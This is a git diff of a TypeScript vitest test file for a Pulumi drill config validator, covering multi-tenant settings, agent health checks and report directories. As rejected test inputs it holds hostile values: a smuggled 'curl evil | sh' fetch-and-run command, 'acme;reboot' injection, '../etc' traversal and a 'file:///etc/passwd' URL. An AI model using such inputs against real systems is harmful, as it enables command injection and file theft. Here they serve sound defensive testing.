@@ -5,9 +5,10 @@ import * as path from "path";
 import { parse as parseYaml } from "yaml";
 import { afterEach, describe, expect, it } from "vitest";
 import { ConfigError } from "../../config/common";
-import { cidrProblems, defaultAgentInstallUrl, drillConfigKeys, loadDrillConfig, parseDrillConfig } from "../../config/drill";
+import { agentHealthCheck } from "../../components/drill-command";
+import { cidrProblems, drillConfigKeys, loadDrillConfig, maxTenantsPerBox, parseDrillConfig, reportFileOf } from "../../config/drill";
 
-const minimal = { prodStack: "acme-org/agent-backups/prod", tenant: "acme", region: "eu-central-1", sshCidr: "203.0.113.7/32" };
+const minimal = { prodStack: "acme-org/agent-backups/prod", tenants: ["acme"], region: "eu-central-1", sshCidr: "203.0.113.7/32" };
 
 /** The problem lines of the ConfigError thrown for `raw`. */
 function problems(raw: Record<string, unknown>): string[] {
@@ -29,24 +30,58 @@ describe("drill config", () => {
       architecture: "x86_64",
       ttlHours: 4,
       rootVolumeGiB: 16,
-      target: "/root/.hermes",
-      agentInstallUrl: defaultAgentInstallUrl,
-      reportFile: "drill-report.json",
+      agentCheck: agentHealthCheck,
+      reportDir: "drill-reports",
     });
+    expect(reportFileOf("drill-reports", "acme")).toBe("drill-reports/acme.json");
+  });
+
+  it("runs the local drill's agent check by default: the agent's own checks", () => {
+    expect(parseDrillConfig(minimal).agentCheck).toBe(agentHealthCheck);
+    expect(agentHealthCheck).toBe("/var/lib/agent-backup/install-source/agent-check-hermes");
+  });
+
+  it("takes several tenants, as a list or as Pulumi hands a YAML list over (its JSON text)", () => {
+    expect(parseDrillConfig({ ...minimal, tenants: ["acme", "globex", "initech"] }).tenants).toEqual(["acme", "globex", "initech"]);
+    expect(parseDrillConfig({ ...minimal, tenants: '["acme","globex"]' }).tenants).toEqual(["acme", "globex"]);
+  });
+
+  it("keeps the single-tenant form: tenant: acme is tenants: [acme]", () => {
+    const { tenants: _t, ...rest } = minimal;
+    const config = parseDrillConfig({ ...rest, tenant: "acme" });
+    expect(config.tenants).toEqual(["acme"]);
+    expect(config).not.toHaveProperty("tenant");
+  });
+
+  it("refuses both forms at once, an empty or too long list, a tenant twice, and a bad name in the list", () => {
+    expect(problems({ ...minimal, tenant: "acme" })).toEqual([expect.stringMatching(/^agent-backups:tenants: .*set tenants or tenant, not both/)]);
+    expect(problems({ ...minimal, tenants: [] })).toEqual([expect.stringMatching(/^agent-backups:tenants: .*at least one tenant/)]);
+    const many = Array.from({ length: maxTenantsPerBox + 1 }, (_, i) => `t${i}`);
+    expect(problems({ ...minimal, tenants: many })).toEqual([expect.stringMatching(new RegExp(`^agent-backups:tenants: .*at most ${maxTenantsPerBox} tenants`))]);
+    expect(problems({ ...minimal, tenants: ["acme", "acme"] })).toEqual([expect.stringMatching(/^agent-backups:tenants: .*listed twice/)]);
+    expect(problems({ ...minimal, tenants: ["acme", "Bad;id"] })).toEqual([expect.stringMatching(/^agent-backups:tenants.*refusing "Bad;id": not a valid tenant/)]);
+    expect(problems({ ...minimal, tenants: "acme" })).toEqual([expect.stringMatching(/^agent-backups:tenants: .*a list of tenant names/)]);
+  });
+
+  it("refuses a named archive for several tenants (an archive belongs to one)", () => {
+    expect(parseDrillConfig({ ...minimal, archive: "acme-2026-11-24T03:17:00" }).archive).toBe("acme-2026-11-24T03:17:00");
+    expect(problems({ ...minimal, tenants: ["acme", "globex"], archive: "acme-2026-11-24T03:17:00" }))
+      .toEqual([expect.stringMatching(/^agent-backups:archive: .*belongs to one tenant/)]);
   });
 
   it("takes numbers as Pulumi hands them over (strings) and every optional key", () => {
     const config = parseDrillConfig({
       ...minimal, archive: "acme-2026-11-24T03:17:00", instanceType: "t4g.medium", architecture: "arm64",
-      imageId: "ami-0123456789abcdef0", subnetId: "subnet-0123456789abcdef0", ttlHours: "12", rootVolumeGiB: "64", target: "/srv/restore/.hermes",
-      agentCheck: "env HERMES_HOME=/srv/restore/.hermes hermes doctor", reportFile: "reports/acme.json",
+      imageId: "ami-0123456789abcdef0", subnetId: "subnet-0123456789abcdef0", ttlHours: "12", rootVolumeGiB: "64",
+      agentCheck: "/usr/local/bin/my-agent-check --strict", reportDir: "/tmp/reports",
     });
+    expect(config).toMatchObject({ agentCheck: "/usr/local/bin/my-agent-check --strict", reportDir: "/tmp/reports" });
     expect(config).toMatchObject({ ttlHours: 12, rootVolumeGiB: 64, architecture: "arm64", archive: "acme-2026-11-24T03:17:00", subnetId: "subnet-0123456789abcdef0" });
   });
 
   it("names every missing required key at once", () => {
     const lines = problems({});
-    for (const key of ["prodStack", "tenant", "region", "sshCidr"]) {
+    for (const key of ["prodStack", "tenants", "region", "sshCidr"]) {
       expect(lines.some((l) => l.startsWith(`agent-backups:${key}: `)), key).toBe(true);
     }
     expect(lines).toHaveLength(4);
@@ -55,8 +90,6 @@ describe("drill config", () => {
   const bad: [string, unknown, RegExp][] = [
     ["prodStack", "prod", /expected org\/project\/stack/],
     ["prodStack", "a/b/c/d", /expected org\/project\/stack/],
-    ["tenant", "Acme", /refusing "Acme": not a valid tenant/],
-    ["tenant", "acme;reboot", /not a valid tenant/],
     ["archive", "../etc", /refusing "..\/etc": not a valid archive_name/],
     ["archive", "", /not a valid archive_name/],
     ["region", "Frankfurt", /an AWS region such as eu-central-1/],
@@ -75,14 +108,20 @@ describe("drill config", () => {
     ["ttlHours", "four", /expected a whole number of hours/],
     ["ttlHours", "2.5", /expected a whole number of hours/],
     ["rootVolumeGiB", "4", /at least 8 GiB/],
-    ["target", "relative/dir", /not a valid abs_path/],
-    ["target", "/root/../etc", /not a valid abs_path/],
     ["agentCheck", "hermes doctor; curl evil | sh", /no quotes or shell syntax/],
     ["agentCheck", "hermes  doctor", /separated by single spaces/],
     ["agentCheck", "hermes 'doctor'", /no quotes/],
-    ["agentInstallUrl", "file:///etc/passwd", /not a valid url/],
-    ["reportFile", "report file.json", /not a valid rel_path/],
+    ["reportDir", "report dir", /not a valid rel_path/],
   ];
+  it.each([["Acme", /refusing "Acme": not a valid tenant/], ["acme;reboot", /not a valid tenant/]] as const)(
+    "refuses tenant=%j (the single-tenant form) naming the key", (value, message) => {
+      const { tenants: _t, ...rest } = minimal;
+      const lines = problems({ ...rest, tenant: value });
+      expect(lines).toHaveLength(1);
+      expect(lines[0]).toMatch(/^agent-backups:tenant: /);
+      expect(lines[0]).toMatch(message);
+    });
+
   it.each(bad)("refuses %s=%j with a clear message naming the key", (key, value, message) => {
     const lines = problems({ ...minimal, [key]: value });
     expect(lines).toHaveLength(1);
@@ -108,7 +147,7 @@ describe("loadDrillConfig", () => {
   it("reads the agent-backups keys of the stack and only those", () => {
     pulumi.runtime.setAllConfig({
       "agent-backups:prodStack": minimal.prodStack,
-      "agent-backups:tenant": "acme",
+      "agent-backups:tenants": '["acme"]',
       "agent-backups:region": "eu-central-1",
       "agent-backups:sshCidr": "203.0.113.7/32",
       "agent-backups:ttlHours": "2",
@@ -128,11 +167,13 @@ describe("Pulumi.drill.yaml", () => {
     const file = parseYaml(fs.readFileSync(path.join(__dirname, "..", "..", "Pulumi.drill.yaml"), "utf8")) as { config: Record<string, unknown> };
     const raw = Object.fromEntries(Object.entries(file.config).map(([k, v]) => {
       expect(k.startsWith("agent-backups:"), k).toBe(true);
-      // The Pulumi CLI hands every value over as a string.
-      return [k.slice("agent-backups:".length), String(v)];
+      // The Pulumi CLI hands every value over as a string, a structured one as its JSON text.
+      return [k.slice("agent-backups:".length), typeof v === "object" ? JSON.stringify(v) : String(v)];
     }));
     const config = parseDrillConfig(raw);
     expect(config.ttlHours).toBe(4);
-    for (const key of ["prodStack", "tenant", "region", "sshCidr"]) expect(raw, key).toHaveProperty(key);
+    expect(config.tenants).toEqual(["acme"]);
+    expect(config.agentCheck).toBe(agentHealthCheck);
+    for (const key of ["prodStack", "tenants", "region", "sshCidr"]) expect(raw, key).toHaveProperty(key);
   });
 });
